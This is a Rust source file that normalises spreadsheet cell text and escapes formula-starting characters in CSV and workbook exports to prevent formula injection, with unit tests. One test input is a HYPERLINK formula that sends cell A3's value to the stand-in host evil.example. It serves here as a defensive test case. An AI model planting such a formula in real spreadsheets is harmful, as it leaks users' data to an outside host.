//! Text in a cell, the same on both sides of a round trip (spec 6.1). Import
//! applies one normalisation to every text cell, and compares the YAML's
//! text after the same one: CRLF and CR become LF, whitespace (no-break and
//! other Unicode spaces included) is trimmed at the two ends, and everything
//! inside is kept. And a CSV cell that a spreadsheet would run as a formula
//! is written with a leading `'`, which import takes off again.

/// The one normalisation of a cell's text.
pub fn normalise(text: &str) -> String {
    let lf = if text.contains('\r') {
        text.replace("\r\n", "\n").replace('\r', "\n")
    } else {
        text.to_owned()
    };
    lf.trim_matches(char::is_whitespace).to_owned()
}

/// Titles match when equal after the normalisation, ignoring letter case:
/// the key for twins and for matching id-less rows to items.
pub fn title_key(title: &str) -> String {
    normalise(title).to_lowercase()
}

/// What starts a formula in a spreadsheet that opens a CSV: `=`, `+`, `-`,
/// `@`, and a tab or carriage return before any of them.
fn triggers(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// A leading `'` and then a formula character: the form a CSV export gives
/// such text, so import takes one `'` off it.
fn quoted(text: &str) -> bool {
    let rest = text.trim_start_matches('\'');
    rest.len() < text.len() && rest.chars().next().is_some_and(triggers)
}

/// A CSV cell's text: one more `'` in front of text that starts with a
/// formula character, after any `'`s it already starts with (so that text
/// which itself starts `'=` reads back as itself).
pub fn csv_escape(text: &str) -> std::borrow::Cow<'_, str> {
    let rest = text.trim_start_matches('\'');
    if rest.chars().next().is_some_and(triggers) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A workbook cell's text: written as a string, which no spreadsheet runs,
/// so only text that already starts with `'` and a formula character gets
/// one more `'` (import takes one off whatever the format).
pub fn workbook_escape(text: &str) -> std::borrow::Cow<'_, str> {
    if quoted(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A cell's text as import reads it: one leading `'` taken off before a
/// formula character, then the normalisation.
pub fn from_cell(text: &str) -> String {
    if quoted(text) {
        normalise(&text[1..])
    } else {
        normalise(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_normalisation_trims_the_ends_and_keeps_the_inside() {
        assert_eq!(normalise("  a  b\u{a0}"), "a  b");
        assert_eq!(normalise("\u{a0}\u{2003}x\t"), "x");
        assert_eq!(normalise("one  \r\ntwo\rthree\n\n\n"), "one  \ntwo\nthree");
        assert_eq!(normalise("a\u{a0}\tb"), "a\u{a0}\tb");
        assert_eq!(title_key(" Café Survey "), "café survey");
    }

    #[test]
    fn formula_text_round_trips_through_either_escape() {
        for text in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A3,\"Click\")",
            "+44 1234",
            "-5",
            "@SUM(A1)",
            "'=already quoted",
            "''+twice",
            "\t=tab",
            "plain",
            "it's fine",
            "'quoted but harmless",
        ] {
            let csv = csv_escape(text);
            let book = workbook_escape(text);
            assert_eq!(from_cell(&csv), normalise(text), "csv {text:?}");
            assert_eq!(from_cell(&book), normalise(text), "xlsx {text:?}");
            let first = csv.chars().next().unwrap();
            assert!(!triggers(first), "{text:?} -> {csv:?}");
        }
        assert_eq!(csv_escape("=1+1"), "'=1+1");
        assert_eq!(workbook_escape("=1+1"), "=1+1");
        assert_eq!(workbook_escape("'=1"), "''=1");
        assert_eq!(csv_escape("plain"), "plain");
    }
}
